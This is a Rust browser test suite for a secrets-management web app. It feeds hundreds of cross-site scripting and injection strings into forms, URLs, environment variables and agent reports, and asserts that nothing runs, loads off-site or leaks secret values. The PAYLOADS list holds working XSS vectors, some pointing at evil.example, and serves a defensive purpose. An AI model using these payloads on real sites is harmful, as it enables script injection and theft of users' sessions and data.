//! Five hundred strings that want to be markup, script, style or an address, wherever people and machines can put one. Nothing
//! executes, nothing becomes an element, what may be shown is shown to the letter, and values are shown nowhere.

use keyfob::wire::v1::{self, Role, Visibility};
use serde_json::{Value, json};

use crate::{
    driver::Browser,
    http::percent,
    looks,
    site::Site,
    world::{Api, enrol_session, plain},
};

const WAYS_OUT: [&str; 14] =
    ["", "\"", "'", ">", "\">", "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "`", "\\\"", "&quot;&gt;"];
const PAYLOADS: [&str; 18] = [
    "<script>window.pwned=1</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    " autofocus onfocus=window.pwned=1 x=",
    " style=display:none onmouseover=window.pwned=1 ",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=csrf>",
    "<a href=javascript:window.pwned=1>here</a>",
    "javascript:window.pwned=1//",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=window.pwned=1>\">",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;&#60;b&#62;&amp;&notanentity;",
    "{{constructor.constructor('window.pwned=1')()}}${window.pwned=1}<%= 7*7 %>",
    "\u{202e}\u{2066}\u{feff}\u{301}\u{1f511}\u{fffd}%3Cscript%3Ewindow.pwned=1%3C/script%3E+%00",
];

fn strings() -> Vec<String> {
    let all = WAYS_OUT.iter().flat_map(|out| PAYLOADS.iter().map(move |payload| (out, payload)));
    all.flat_map(|(out, payload)| [format!("{out}{payload}"), format!("x{out} {payload}{out}")]).take(500).collect()
}

/// All elements of a page with the names of their attributes: what a string could add to.
const SKELETON: &str =
    "[...document.querySelectorAll('*')].map(e => e.tagName + e.getAttributeNames().sort()).join('\\n')";

/// That nothing of it ran or loaded.
const CALM: &str = "(window.pwned === undefined
    && performance.getEntriesByType('resource').every(e => e.name.startsWith(location.origin))
    && !document.querySelector('main script, main img, main style, main iframe, base, main meta, a[href^=javascript]'))";

fn is_calm(browser: &Browser, what: &str) {
    assert_eq!(browser.run(&format!("return {CALM}"), &json!([])), json!(true), "{what}");
}

fn is_light(browser: &Browser) {
    let weight = looks::weight(browser);
    assert!(weight < looks::HEAVIEST, "{weight} bytes: {}", browser.url());
}

#[tokio::test(flavor = "multi_thread")]
async fn what_people_type() {
    let strings = strings();
    assert_eq!(strings.len(), 500);
    let site = Site::new().await;
    let alice = site.world.person("alice", Role::Member).await;
    let browser = site.browser_of(&alice).await;
    browser.open(&format!("{}/secrets/new", site.url));
    let mut expected = Value::Null;
    for (n, text) in strings.iter().enumerate() {
        // `!` is in no name: all of them come back to be mended.
        let (name, description, value) = (format!("!{n} {text}"), format!("{text}-d{n}"), format!("{text}VALUE-{n}-"));
        browser.run(
            "const [name, description, value] = arguments;
             const set = (id, text) => { const e = document.getElementById(id); e.removeAttribute('maxlength'); e.value = text };
             set('name', name); set('description', description); set('value', value);
             document.querySelector('main form').submit()",
            &json!([name, description, value]),
        );
        browser.wait_for(&format!(
            "document.readyState == 'complete' && document.querySelector('[role=alert]')
             && document.getElementById('description').value.endsWith('-d{n}')"
        ));
        let page = browser.run(
            &format!(
                "const value = id => document.getElementById(id).value;
                 return {{ name: value('name'), description: value('description'), value: value('value'), title: document.title,
                           leaks: document.documentElement.outerHTML.includes('VALUE-{n}-'), elements: {SKELETON}, calm: {CALM} }}"
            ),
            &json!([]),
        );
        if n == 0 {
            expected = page["elements"].clone();
        }
        let found =
            json!([page["name"], page["description"], page["value"], page["title"], page["leaks"], page["calm"]]);
        assert_eq!(found, json!([name, description, "", "Add a secret · acme · Keyfob", false, true]), "{text}");
        assert_eq!(page["elements"], expected, "{text}");
    }
    let complaints: Vec<_> = browser.complaints().into_iter().filter(|c| !c.contains("status of 422")).collect();
    assert_eq!(complaints, Vec::<String>::new());
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_kept_and_listed() {
    let strings = strings();
    let site = Site::new().await;
    let alice = site.world.person("alice", Role::Member).await;
    let mut ids = Vec::new();
    for (n, text) in strings.iter().enumerate() {
        let request = v1::CreateSecretRequest {
            name: format!("s{n:03}"),
            visibility: Visibility::Private.into(),
            value: Some(plain(format!("{text}VALUE-{n}-").as_bytes())),
            description: text.clone(),
            no_auto_install: true, // no session could have that many
            ..Default::default()
        };
        ids.push(alice.secrets().create_secret(request).await.map(|r| r.into_inner().secret.expect("a secret").id));
    }
    let kept: Vec<_> =
        strings.iter().zip(&ids).filter(|(_, id)| id.is_ok()).map(|(text, _)| text.trim().to_owned()).collect();
    let refused: Vec<_> = ids.iter().filter_map(|id| id.as_ref().err().map(tonic::Status::message)).collect();
    assert!(refused.len() < 50, "{}: {refused:?}", refused.len());

    let browser = site.browser_of(&alice).await;
    let mut shown = Vec::new();
    loop {
        let page = browser.run(
            "return [...document.querySelectorAll('tbody th')].map(e => e.querySelector('.under')?.textContent ?? '')",
            &json!([]),
        );
        let texts: Vec<String> = serde_json::from_value(page).expect("texts");
        shown.extend(texts.into_iter().map(|text| text.trim().to_owned()));
        let html = browser.html();
        assert!(!html.contains("VALUE-"));
        is_calm(&browser, &browser.url());
        is_light(&browser);
        let Some(next) = browser
            .run("return document.querySelector('.more a')?.href ?? null", &json!([]))
            .as_str()
            .map(str::to_owned)
        else {
            break;
        };
        browser.open(&next);
    }
    assert_eq!(shown, kept);
    // One's own page, with its history and whatever stands in titles and labels.
    for id in ids.iter().flatten().step_by(25) {
        browser.open(&format!("{}/secrets/{id}", site.url));
        is_calm(&browser, id);
        assert!(!browser.html().contains("VALUE-"));
    }
    assert_eq!(browser.complaints(), Vec::<String>::new());
}

/// In addresses: searches, filters, links, ids.
#[tokio::test(flavor = "multi_thread")]
async fn what_stands_in_addresses() {
    let site = Site::new().await;
    let alice = site.world.person("alice", Role::Admin).await;
    alice.create("api-key", Visibility::Private, b"a value of alice").await;
    let browser = site.browser_of(&alice).await;
    let pages = [
        "/secrets?q=",
        "/secrets?visibility=",
        "/secrets?page=",
        "/secrets/",
        "/sessions/",
        "/rollouts/",
        "/environments/",
        "/audit?action=",
        "/audit?actor=",
        "/audit?target=",
        "/preview?user=",
        "/preview?environment=",
        "/signin?link=",
        "/environments/default/history?from=",
        "/",
    ];
    for (n, text) in strings().iter().step_by(5).enumerate() {
        let page = pages[n % pages.len()];
        browser.open(&format!("{}{page}{}", site.url, percent(text)));
        is_calm(&browser, &format!("{page}{text}"));
    }
    let grave = |c: &String| !c.contains("status of 4");
    assert_eq!(browser.complaints().into_iter().filter(grave).collect::<Vec<_>>(), Vec::<String>::new());
}

/// What admins put into environments, which everybody sees: now, in the history, and where sessions are.
#[tokio::test(flavor = "multi_thread")]
async fn what_environments_hold() {
    let strings: Vec<_> = strings().into_iter().step_by(3).collect(); // more is in no environment
    let site = Site::new().await;
    let root = site.world.admin();
    let mut kept = Vec::new();
    for (n, texts) in strings.chunks(40).enumerate() {
        let set = texts
            .iter()
            .enumerate()
            .map(|(at, text)| v1::EnvironmentVariable { variable: format!("V{n}_{at:02}"), value: text.clone() });
        let request = v1::UpdateEnvironmentRequest { name: "default".into(), set: set.collect(), ..Default::default() };
        root.environments().update_environment(request).await.expect("the admin sets them");
        kept.extend(texts);
    }
    let made = site.world.session("root", "default").await.session.expect("a session").id;
    let member = site.world.person("alice", Role::Member).await;
    for (who, form) in [(root, true), (&member, false)] {
        let browser = site.browser_of(who).await;
        browser.open(&format!("{}/environments/default", site.url));
        let script = if form {
            "return [...document.querySelectorAll('[name^=\"set.\"]')].map(e => e.value)"
        } else {
            "return [...document.querySelectorAll('tbody tr td:nth-of-type(1)')].map(e => e.textContent.trim())"
        };
        let shown: Vec<String> = serde_json::from_value(browser.run(script, &json!([]))).expect("texts");
        assert_eq!(shown.len(), kept.len());
        for (shown, text) in shown.iter().zip(&kept) {
            assert_eq!(shown.trim(), text.trim());
        }
        for page in
            ["/environments/default", "/environments/default/history", "/environments/default/history?from=1&to=6"]
        {
            browser.open(&format!("{}{page}", site.url));
            is_calm(&browser, page);
            is_light(&browser);
        }
        for page in ["/preview".to_owned(), format!("/sessions/{made}")] {
            browser.open(&format!("{}{page}", site.url));
            is_calm(&browser, &page);
        }
        let grave = |c: &String| !c.contains("status of 404");
        assert_eq!(browser.complaints().into_iter().filter(grave).collect::<Vec<_>>(), Vec::<String>::new());
    }
}

/// What a machine says of itself: a session is somebody else's computer, and its reports are read by admins.
#[tokio::test(flavor = "multi_thread")]
async fn what_sessions_report() {
    let site = Site::new().await;
    let root = site.world.admin();
    let secret = root.create("team-key", Visibility::Shared, b"a value for all").await;
    let browser = site.browser_of(root).await;
    let (mut said, mut refused) = (0, 0);
    for text in strings().iter().step_by(25) {
        let made = site.world.session("root", "default").await;
        let (session, id) = (enrol_session(&made.join).await, made.session.expect("a session").id);
        session.fetch(crate::world::ORG, &id).await.expect("a bundle");
        let failed =
            v1::AcknowledgeRequest { sequence: 0, error: text.chars().take(200).collect(), error_names: false };
        let failed = session.bundle().acknowledge(failed).await.map(drop);
        for answer in [report(&session, text).await, leak(&session, &secret, text).await, failed] {
            if answer.is_ok() { said += 1 } else { refused += 1 }
        }
        for page in ["/sessions".to_owned(), format!("/sessions/{id}"), format!("/secrets/{}", secret.id)] {
            browser.open(&format!("{}{page}", site.url));
            is_calm(&browser, &format!("{page}: {text}"));
        }
    }
    assert!(said > 20 && said > refused, "{said} were taken and {refused} were not");
    let reach = v1::create_rollout_request::Reach::All(true);
    let request = v1::CreateRolloutRequest { reach: Some(reach), options: None };
    let rollout = root.rollouts().create_rollout(request).await.expect("the admin pushes").into_inner().rollout;
    for page in ["/audit".to_owned(), format!("/rollouts/{}", rollout.expect("a rollout").id)] {
        browser.open(&format!("{}{page}", site.url));
        is_calm(&browser, &page);
    }
    assert_eq!(browser.complaints(), Vec::<String>::new());
}

async fn report(session: &Api, text: &str) -> Result<(), tonic::Status> {
    let status = v1::AgentStatus {
        phase: v1::Phase::Degraded.into(),
        last_error: text.to_owned(),
        agent_version: text.chars().take(20).collect(),
        memory_rung: text.chars().take(20).collect(),
        ..Default::default()
    };
    session.bundle().report(v1::ReportRequest { status: Some(status), ..Default::default() }).await.map(drop)
}

async fn leak(session: &Api, secret: &v1::Secret, text: &str) -> Result<(), tonic::Status> {
    let leak = v1::Leak {
        variable: secret.variable.clone(),
        version: secret.version.clone(),
        form: "raw".into(),
        unit: text.chars().take(100).collect(),
        count: 1,
    };
    session.leaked([leak]).await
}
